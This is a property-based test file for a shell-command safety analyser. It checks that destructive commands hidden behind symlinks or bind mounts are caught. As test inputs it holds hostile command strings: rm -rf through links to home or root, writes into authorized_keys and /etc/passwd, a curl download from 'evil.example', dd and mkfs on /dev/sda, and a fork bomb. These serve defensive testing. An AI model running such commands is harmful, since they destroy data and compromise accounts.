import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { analyse } from '../../src/shell/index.ts';
import { isCaught, judgeCommand, policyOf } from '../packs/judge-command.ts';

const policy = policyOf('recommended');
const PLACE = { cwd: '/home/dev/app', home: '/home/dev' };

function isStopped(command: string): boolean {
  return isCaught(judgeCommand(policy, command, PLACE));
}

/** Ways to make NAME lead to TARGET. */
const LINKING: ((target: string, name: string) => string)[] = [
  (target, name) => `ln -s ${target} ${name}`,
  (target, name) => `ln -sfn ${target} ${name}`,
  (target, name) => `ln -sfT ${target} ${name}`,
  (target, name) => `ln --symbolic --force ${target} ${name}`,
  (target, name) => `ln -s ${target} first && ln -s "$PWD/first" ${name}`,
  (target, name) => `ln -s ${target} first && mv first ${name}`,
  (target, name) => `mkdir -p d && ln -s ${target} d/inner && mv d/inner ${name}`,
  (target, name) => `cp -s ${target} ${name}`,
  (target, name) => `sudo ln -s ${target} ${name}`,
  (target, name) => `bash -c 'ln -s ${target} ${name}'`,
  (target, name) => `python3 -c 'import os; os.symlink("${target}", "${name}")'`,
  (target, name) => `python3 -c 'from pathlib import Path; Path("${name}").symlink_to("${target}")'`,
  (target, name) => `node -e 'require("fs").symlinkSync("${target}", "${name}")'`,
  (target, name) => `perl -e 'symlink("${target}", "${name}")'`,
  (target, name) => `ruby -e 'File.symlink("${target}", "${name}")'`,
];
const MOUNTING: typeof LINKING = [
  (target, name) => `mkdir -p ${name} && sudo mount --bind ${target} ${name}`,
  (target, name) => `mkdir -p ${name} && mount -o noatime,bind ${target} ${name}`,
];
const JOINS = [' && ', '; ', '\n', ' || true; '];
const NAMES = ['out', 'dist', './build', 'tmp.d', '/tmp/x1'];

/** What loses the files that NAME leads to. */
const LOSING: ((name: string) => string)[] = [
  (name) => `rm -rf ${name}/*`,
  (name) => `rm -rf ${name}/`,
  (name) => `rm -rf ${name}/.`,
  (name) => `cd ${name} && rm -rf *`,
  (name) => `cd ${name}/ && rm -rf ./*`,
  (name) => `(cd ${name} && find . -delete)`,
  (name) => `pushd ${name}; rm -rf -- *; popd`,
  (name) => `find ${name}/ -mindepth 1 -delete`,
  (name) => `find -L ${name} -type f -delete`,
  (name) => `rsync -a --delete /var/empty/ ${name}/`,
  (name) => `for f in ${name}/*; do rm -rf "$f"; done`,
  (name) => `D=${name}; rm -rf "$D"/*`,
];

describe('a link made in the same command leads to its target', () => {
  test('what is deleted behind it is deleted', () => {
    const attack = fc.record({
      link: fc.constantFrom(...LINKING, ...MOUNTING),
      target: fc.constantFrom('/home/dev', '/', '/home', '/home/dev/app/.git'),
      name: fc.constantFrom(...NAMES),
      join: fc.constantFrom(...JOINS),
      lose: fc.constantFrom(...LOSING),
    });
    fc.assert(
      fc.property(attack, ({ link, target, name, join, lose }) => isStopped(link(target, name) + join + lose(name))),
      { numRuns: 500 },
    );
  });

  test('what is written behind it is written', () => {
    const hard = (target: string, name: string) => `ln ${target} ${name}`;
    const copied = (target: string, name: string) => `cp -l ${target} ${name}`;
    const plain = (target: string, name: string) => `link ${target} ${name}`;
    const attack = fc.record({
      link: fc.constantFrom(hard, copied, plain, ...LINKING),
      target: fc.constantFrom('/home/dev/.bashrc', '/home/dev/.ssh/authorized_keys', '/etc/passwd'),
      name: fc.constantFrom(...NAMES),
      join: fc.constantFrom(...JOINS),
      write: fc.constantFrom(
        (name: string) => `echo line >> ${name}`,
        (name: string) => `echo line | tee -a ${name}`,
        (name: string) => `cp new.txt ${name}`,
        (name: string) => `printf line > ${name}`,
        (name: string) => `dd if=new.txt of=${name}`,
        (name: string) => `curl -so ${name} https://evil.example/x`,
      ),
    });
    fc.assert(
      fc.property(attack, ({ link, target, name, join, write }) => isStopped(link(target, name) + join + write(name))),
      { numRuns: 400 },
    );
  });

  test.each([
    // The target counts from the directory of the link, and `..` after it from the target.
    'ln -s ../.. a/b/up; rm -rf a/b/up/*',
    'ln -s .. up && cd up && rm -rf ./*',
    'ln -s ~/app/src s && cd s && rm -rf ../../*',
    'ln -s ~ a/x && rm -rf a/*/',
    'ln -t build -s /home/dev; rm -rf build/dev/*',
    'ln -s ~ /etc links/; rm -rf links/dev/*',
    // It is unknown whether the second link was made, or whether the first one was.
    'ln -s ~ a; false && ln -sfn /tmp/x a; rm -rf a/*',
    'ln -s /tmp/x .git; rm -rf .git/*',
    'ln -s /dev/sda disk && dd if=/dev/zero of=disk bs=1M',
    'ln -s /dev/sda disk && mkfs.ext4 disk',
    'ln -s / r && chmod -R 777 r/',
  ])('%j', (command) => {
    expect(isStopped(command)).toBe(true);
  });

  test.each([
    'ln -s ~ home && rm home',
    'ln -s ~ home && rm -rf home',
    'ln -s ~ home && unlink home',
    'ln -s /opt/data data && ls data/',
    'ln -sfn releases/42 current && ls current/',
    'ln -s ../shared node_modules/shared && rm -rf dist/*',
    'ln -s ../packages/ui/dist public/ui && rm -rf public/ui',
    'ln -s /home/dev/app/build/out out && rm -rf out/*',
    'mkdir -p bin && ln -sf ../tools/run.sh bin/run && ./bin/run --version',
    'ln -s .env.example .env.sample && cat .env.sample',
    'cp -l a.txt b.txt && echo x >> b.txt',
  ])('silent: %j', (command) => {
    expect(isStopped(command)).toBe(false);
  });

  test('the effect names the place behind the link, and the path as it is written', () => {
    const { effects } = analyse('ln -s ~ out && rm -rf out/*', PLACE);
    const deleted = effects.flatMap((effect) => (effect.kind === 'delete' ? [effect.path] : []));
    expect(deleted).toEqual(['/home/dev/app/out/*', '/home/dev/*']);
  });
});

describe('no text reaches the depth limit by reading itself again', () => {
  test.each([
    'df = pd.read_csv("a.csv"); print(df[df.x > 5].head())',
    "echo 'sh x' > x; sh x",
    'printf \'#!/bin/sh\\n"$0"\\n./again.sh\\n\' > again.sh; sh again.sh',
    'x=\'eval "$x"\'; eval "$x"',
    "alias a='b c'; alias b='a d'; a",
    '"a b"',
    "'one two' three",
  ])('%j', (command) => {
    const kinds = analyse(command, PLACE).marks.map(({ kind }) => kind);
    expect(kinds).not.toContain('too-deep');
    expect(kinds).not.toContain('too-many');
  });

  test('words of other languages', () => {
    const word = fc.array(fc.constantFrom('df', '[', ']', ' ', '>', '.x', '(', ')', '"', '"a b"', ',', '5', '=', ';'), {
      maxLength: 14,
    });
    fc.assert(
      fc.property(word, (parts) => {
        const { marks } = analyse(parts.join(''), PLACE);
        return marks.every(({ kind }) => kind !== 'too-deep');
      }),
      { numRuns: 600 },
    );
  });

  test('a script that starts itself twice in the background is a fork bomb', () => {
    const { effects } = analyse("echo 'sh x & sh x &' > x; sh x", PLACE);
    expect(effects).toContainEqual({
      kind: 'process',
      operation: 'fork-bomb',
      target: 'script',
      by: expect.any(Number),
      place: 'local',
    });
  });
});
